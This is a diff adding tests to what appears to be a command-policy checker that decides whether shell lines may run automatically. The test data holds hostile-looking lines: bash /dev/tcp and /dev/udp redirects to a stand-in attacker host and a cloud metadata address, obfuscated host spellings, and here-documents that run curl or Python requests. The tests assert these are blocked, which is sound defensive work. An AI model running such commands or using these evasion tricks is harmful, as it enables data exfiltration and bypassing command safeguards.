@@ -184,3 +184,31 @@ describe("a word known only at run time, on a line without network", () => {
     expect(judge("curl $'evi\\x6c.com'", HOSTS, false).decision).toBe("policy_ask");
   });
 });
+
+describe("a host reached by a bash redirect or written in a here-document is judged through decide()", () => {
+  it.each([
+    "exec 3<>/dev/tcp/evil.com/80",
+    "cat </dev/tcp/evil.com/443",
+    "echo x >/dev/udp/169.254.169.254/53",
+    'cat < "/dev/tcp/evi"l.com/80',
+    "{ echo GET /; cat; } 3<>/dev/tcp/$'evi\\x6c.com'/80",
+    "while read l; do echo $l; done </dev/tcp/evil.com/80",
+    "bash -c 'cat </dev/tcp/evil.com/80'",
+    'python3 - <<EOF\nimport urllib.request; urllib.request.urlopen("http://evil.com")\nEOF',
+    "curl -K - <<<'url = \"https://evil.com\"'",
+    "bash <<'EOF'\ncurl evil.com\nEOF",
+    "ls && cat <<-EOF\n\thttp://evil.com\n\tEOF",
+  ])("%j", (line) => {
+    const verdict = judge(line, ALLOWED);
+    expect(verdict.decision).not.toBe("allow");
+    expect(verdict.auto).not.toBe("run");
+  });
+
+  it.each([
+    "cat </dev/tcp/example.com/80",
+    "cat > README.md <<'EOF'\nSee https://example.com for more.\nEOF",
+    "cat <<<'hello'",
+  ])("another host, or none, under the same rules runs: %j", (line) => {
+    expect(judge(line, ALLOWED)).toMatchObject({ decision: "policy_allow", auto: "run" });
+  });
+});
